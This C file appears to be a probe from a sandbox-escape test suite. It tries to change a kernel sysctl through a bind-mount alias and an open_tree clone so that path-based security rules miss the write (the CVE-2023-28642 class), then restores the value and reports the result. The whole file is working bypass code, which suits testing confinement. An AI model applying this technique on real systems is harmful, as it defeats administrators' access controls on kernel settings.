// SPDX-License-Identifier: GPL-2.0-only
// A sysctl under another name: bound to a file elsewhere, where rules that go by
// paths do not see it (CVE-2023-28642), and as a cloned tree.
#include <sys/mount.h>

#include "attack.h"

#define SYSCTL	"/proc/sys/vm/oom_dump_tasks"
#define ALIAS	"/tmp/sysctl"

static bool change(const char *name, const char *old)
{
	char *now;

	if (put(name, *old == '0' ? "1" : "0"))
		return false;
	now = get(SYSCTL);
	NEED(!put(name, old));
	return now && *now != *old;
}

static bool change_clone(const char *old)
{
	int tree = syscall(SYS_open_tree, AT_FDCWD, SYSCTL, 1);
	char name[32];

	if (tree < 0)
		return false;
	snprintf(name, sizeof(name), "/proc/self/fd/%d", tree);
	return change(name, old);
}

int main(void)
{
	char *old = get(SYSCTL);
	bool done = false;
	int err;

	if (!old)
		refused(SYSCTL);
	close(open(ALIAS, O_CREAT | O_WRONLY, 0600));
	if (!mount(SYSCTL, ALIAS, NULL, MS_BIND, NULL)) {
		done = change(ALIAS, old);
		err = errno;
		umount2(ALIAS, MNT_DETACH);
		errno = err;
	}
	done = done || change_clone(old);
	err = errno;
	unlink(ALIAS);
	errno = err;
	if (done)
		worked("a sysctl was changed");
	refused("write");
}
